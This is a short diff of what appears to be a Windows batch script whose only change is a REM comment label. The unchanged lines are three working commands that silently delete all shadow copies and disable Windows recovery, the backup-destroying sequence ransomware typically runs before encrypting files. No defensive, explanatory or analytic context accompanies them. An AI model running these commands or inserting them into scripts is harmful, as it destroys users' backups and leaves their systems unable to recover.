@@ -1,4 +1,4 @@
-REM task 3814 v4
+REM run 1747 v4
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
